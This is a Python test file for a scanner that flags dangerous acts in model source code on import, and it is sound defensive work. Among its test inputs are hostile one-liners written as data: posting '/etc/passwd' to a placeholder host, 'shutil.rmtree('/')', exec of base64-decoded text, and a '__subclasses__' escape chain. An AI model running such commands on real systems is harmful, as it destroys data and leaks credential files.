"""Python source: what importing it does, and what its functions could do."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assaymark.inspection import Hazard, Hole, Level
from assaymark.scan.folder.code import judge_source, relative_imports

MODELING = '''
"""A model."""
import math
import torch
from torch import nn
from transformers import PreTrainedModel
from .configuration_x import XConfig
from .layers import Block, helper
from transformers.utils import logging

logger = logging.get_logger(__name__)
SCALE = math.sqrt(2)


class XModel(PreTrainedModel):
    config_class = XConfig

    def __init__(self, config):
        super().__init__(config)
        self.blocks = nn.ModuleList(Block(config) for _ in range(config.num_layers))
        self.post_init()

    @torch.no_grad()
    def forward(self, x):
        for block in self.blocks:
            x = block(x)
        return x


class XTokenizer:
    def save_vocabulary(self, path):
        with open(path, "w") as file:
            file.write("x")

    def load_image(self, url):
        import requests
        return requests.get(url).content
'''


def levels(text: str, *, loaded: bool = True) -> dict[str, Level]:
    """Name → the highest level at which it is said."""
    found: dict[str, Level] = {}
    order = [Level.NOTE, Level.UNKNOWN, Level.DANGEROUS]
    for part in judge_source(text, loaded=loaded):
        if isinstance(part, Hazard):
            before = found.get(part.subject, Level.NOTE)
            found[part.subject] = max(before, part.level, key=order.index)
    return found


def test_an_ordinary_model_acts_in_no_way() -> None:
    """Building layers is no act; fetching and writing in functions that nobody calls on load are notes."""
    assert set(levels(MODELING).values()) <= {Level.NOTE}


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("import os\nos.system('x')", "os.system"),
        ("from os import system as s\ns('x')", "os.system"),
        ("import subprocess as sp\nclass A:\n    x = sp.run(['x'])", "subprocess.run"),
        ("import os\nclass A:\n    def __init__(self):\n        os.popen('x')", "os.popen"),
        ("import os\ndef f():\n    g()\ndef g():\n    os.system('x')\nf()", "os.system"),
        ("import os\nclass A:\n def __init__(s):\n  s.go()\n def go(s):\n  os.system('x')", "os.system"),
        ("import os\ndef f(x=os.system('x')):\n    pass", "os.system"),
        ("import os\n@os.system\ndef f():\n    pass", ""),
        ("import base64\nexec(base64.b64decode('eA=='))", "exec"),
        ("eval('1')", "eval"),
        ("import urllib.request\nurllib.request.urlopen('http://x')", "urllib.request.urlopen"),
        ("import requests\nrequests.post('http://x', data=open('/etc/passwd'))", "requests.post"),
        ("import socket\ns = socket.create_connection(('x', 1))", "socket.create_connection"),
        ("import pickle\npickle.loads(b'')", "pickle.loads"),
        ("import ctypes\nctypes.CDLL('./x.so')", "ctypes.CDLL"),
        ("run = __import__('os').system\nimport os\nr = os.system\nr('x')", "os.system"),
        ("import os\ngetattr(os, 'sys' + 'tem')('x')", "getattr"),
        ("open('x', 'w').write('y')", "open"),
        ("import shutil\ntry:\n    shutil.rmtree('/')\nexcept Exception:\n    pass", "shutil.rmtree"),
        ("().__class__.__base__.__subclasses__()", "__subclasses__"),
        ("import os\nif True:\n    for _ in range(1):\n        os.system('x')", "os.system"),
        ("import os\nclass A:\n @classmethod\n def from_pretrained(cls):\n  os.system('x')", "os.system"),
    ],
)  # fmt: skip
def test_acts_on_import_are_dangerous(text: str, name: str) -> None:
    """Wherever it stands, if importing or building comes by it."""
    if name:
        assert levels(text)[name] is Level.DANGEROUS


@pytest.mark.parametrize(
    ("text", "name", "level"),
    [
        (
            "import os\nclass A:\n    def forward(self, x):\n        os.system('x')",
            "os.system",
            Level.UNKNOWN,
        ),
        ("import os\nif __name__ == '__main__':\n    os.system('x')", "os.system", Level.NOTE),
        ("import importlib\nm = importlib.import_module('triton')", "importlib.import_module", Level.UNKNOWN),
        ("def f():\n    open('x', 'w')", "open", Level.NOTE),
    ],
)
def test_what_may_run_later(text: str, name: str, level: Level) -> None:
    """A function that nobody calls on load, a script's own part, an import by a computed name."""
    assert levels(text)[name] is level


def test_files_that_nothing_imports_are_never_dangerous() -> None:
    """A training script beside the weights acts when somebody starts it."""
    assert levels("import os\nos.system('x')", loaded=False) == {"os.system": Level.UNKNOWN}


@pytest.mark.parametrize(
    "text", ["import re\nre.compile('x')", "import ctypes\nx = ctypes.c_int(1)", "x = 'os.system(1)'"]
)
def test_harmless_look_alikes(text: str) -> None:
    """Patterns, numbers for C, and words."""
    assert levels(text) == {}


@pytest.mark.parametrize("text", ["def f(:", "x = (" * 300, "\0", "-" * 100_000 + "1", "x" * (2 << 20)])
def test_what_cannot_be_parsed_is_a_gap(text: str) -> None:
    """Broken, deep or huge source is not clean."""
    assert [type(p) for p in judge_source(text)] == [Hole]


def test_the_line_is_quoted() -> None:
    """Place and text of what acts, control characters escaped."""
    found = next(iter(judge_source("import os\n\nos.system('\x1b[31m')")))

    assert isinstance(found, Hazard)
    assert (found.line, found.evidence) == (3, "os.system('\\x1b[31m')")


def test_imports_from_beside() -> None:
    """Only names with one leading dot are files beside it."""
    assert relative_imports(MODELING + "\nfrom . import extra\nfrom ..up import x") == (
        "configuration_x",
        "layers",
        "extra",
    )


@given(st.text(max_size=300))
def test_any_text_is_judged(text: str) -> None:
    """Whatever the text, hazards or a hole."""
    assert all(isinstance(p, Hazard | Hole) for p in judge_source(text))
